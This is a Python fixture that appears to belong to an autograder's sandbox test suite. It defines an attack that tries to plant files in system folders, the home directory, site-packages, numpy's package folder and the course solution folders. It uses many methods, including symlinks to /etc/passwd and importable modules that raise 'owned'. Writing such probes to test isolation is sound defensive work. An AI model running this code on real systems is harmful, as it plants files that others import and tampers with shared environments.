"""Writes files wherever it may be possible: outside, at home, in the course, for all to import."""

from tests.attacks.attack import Attack
from tests.attacks.sources import HONEST

ATTACK = Attack(
    wants="files that stay, and that others read or run",
    top="""
import os, pathlib, site, sys, sysconfig, tempfile

import numpy as np
import matplotlib

name = "attacks-@PORT@.py"
folders = ["@OUTSIDE@", "@COURSE@", "@COURSE@/solutions", "@COURSE@/assignments/01_convolution",
           "@PACKAGE@", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/etc",
           os.path.expanduser("~"), *sys.path, np.__path__[0], matplotlib.get_cachedir(),
           sysconfig.get_paths()["purelib"], site.getusersitepackages(), "..", "../.."]
folders = [folder for folder in folders if os.path.realpath(folder or ".") != os.getcwd()]

def by_open(path):
    with open(path, "w") as file:
        file.write("raise SystemExit('owned')")

def by_descriptor(path):
    os.write(os.open(path, os.O_CREAT | os.O_WRONLY), b"owned")

ways = [by_open, by_descriptor, os.mkdir, os.mkfifo, lambda p: os.mknod(p),
        lambda p: os.symlink("/etc/passwd", p), lambda p: os.link("/etc/hostname", p),
        lambda p: np.save(p, np.ones(3)), lambda p: np.memmap(p, mode="w+", shape=3),
        lambda p: os.rename(pathlib.Path("file").absolute(), p),
        lambda p: tempfile.mkdtemp(name, dir=os.path.dirname(p))]
open("file", "w").close()
for folder in folders:
    for number, way in enumerate(ways):
        try:
            way(os.path.join(folder, f"{number}-{name}"))
            print("wrote into", folder)
        except Exception as error:
            pass
""",
    solutions=HONEST,
    deserves=3.0,
)
